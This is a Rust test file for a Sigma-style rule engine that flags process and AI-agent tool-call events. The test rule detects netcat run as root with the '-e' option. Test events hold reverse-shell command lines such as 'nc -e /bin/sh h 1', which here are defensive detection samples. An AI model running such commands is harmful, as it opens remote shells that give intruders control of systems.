use inwarden_types::{Ancestor, Argv, Event, EventData, EventId, Image, Process, ToolCall, Uid};

use super::*;

const RULE: &str = "
title: Test rule
id: 6a2f0f6e-0000-4000-8000-000000000001
level: high
tags: [attack.execution, attack.t1059.004]
logsource: {product: linux, category: process_creation}
detection:
  selection:
    Image|endswith: /nc
    CommandLine|contains: ' -e '
    User: root
  condition: selection
";

pub(super) fn event(args: &[&str]) -> Event {
    Event {
        id: EventId::External("e".into()),
        at: None,
        wall: None,
        process: Process {
            image: Image {
                exe: format!("/usr/bin/{}", args[0]),
                argv: Argv::complete(args.iter().map(ToString::to_string).collect()),
                cwd: "/srv".into(),
                ..Image::default()
            },
            uid: Some(Uid(0)),
            ..Process::default()
        },
        ancestors: vec![Ancestor {
            key: None,
            image: Image {
                comm: "bash".into(),
                ..Image::default()
            },
        }],
        data: EventData::Exec,
    }
}

fn check_error(name: &str, text: &str, expected: &str) {
    let error = RuleSet::only(&[RuleSource { name, text }]).unwrap_err();
    assert!(error.to_string().contains(name), "{error}");
    assert!(error.to_string().contains(expected), "{error}");
}

#[test]
fn a_rule_sees_the_mapped_fields_and_names_its_technique() {
    let rules = RuleSet::only(&[RuleSource {
        name: "a.yml",
        text: RULE,
    }])
    .unwrap();
    let hits = rules.screen(&Case::of(event(&["nc", "-e", "sh"])));
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].technique, Some(Technique("T1059.004".into())));
    assert_eq!((hits[0].level, hits[0].shipped), (3, false));
    assert!(!hits[0].settles(), "only shipped rules settle");
    assert!(
        rules
            .screen(&Case::of(event(&["nc", "-l", "80"])))
            .is_empty()
    );
    let fields = field_values(&event(&["nc", "-l"])).unwrap();
    assert_eq!(fields["ParentImage"], "bash");
    assert_eq!(fields["CurrentDirectory"], "/srv");
}

#[test]
fn a_tool_call_with_a_command_is_screened_by_its_command_line() {
    let mut event = event(&["agent"]);
    event.data = EventData::ToolCall(ToolCall {
        args_json: r#"{"command": "nc -e /bin/sh h 1"}"#.into(),
        ..ToolCall::default()
    });
    assert_eq!(
        field_values(&event).unwrap()["CommandLine"],
        "nc -e /bin/sh h 1"
    );
    event.data = EventData::ToolCall(ToolCall {
        args_json: "{\"command\": [".into(),
        ..ToolCall::default()
    });
    assert!(field_values(&event).is_none());
}

#[test]
fn bad_rules_name_their_file() {
    check_error("broken.yml", "title: [", "broken.yml");
    check_error(
        "noid.yml",
        &RULE.replace("id: 6a2f0f6e-0000-4000-8000-000000000001", ""),
        "no id",
    );
    check_error(
        "cond.yml",
        &RULE.replace("condition: selection", "condition: missing"),
        "missing",
    );
    check_error("big.yml", &" ".repeat(MAX_RULE_FILE_BYTES + 1), "bytes");
    let twice = [
        RuleSource {
            name: "a.yml",
            text: RULE,
        },
        RuleSource {
            name: "b.yml",
            text: RULE,
        },
    ];
    let error = RuleSet::only(&twice).unwrap_err();
    assert!(matches!(
        error,
        ClassifierError::DuplicateRule { file, .. } if file == "b.yml"
    ));
}

#[test]
fn rules_for_other_sources_are_left_out_and_counted() {
    let windows = RULE.replace("product: linux", "product: windows");
    let rules = RuleSet::only(&[RuleSource {
        name: "w.yml",
        text: &windows,
    }])
    .unwrap();
    assert!(rules.is_empty());
    assert_eq!(rules.left_out()["other log source"], 1);
}

#[test]
fn the_list_of_shipped_rules_is_complete_and_all_compile() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("data/rules");
    let mut files: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    files.sort();
    let listed: Vec<&str> = shipped::RULES.iter().map(|rule| rule.name).collect();
    assert_eq!(listed, files);
    let rules = RuleSet::shipped().unwrap();
    assert_eq!(rules.left_out().len(), 0, "{rules:?}");
    assert!(rules.len() >= 5);
    assert_eq!(rules.shipped_ids.len(), rules.len());
}
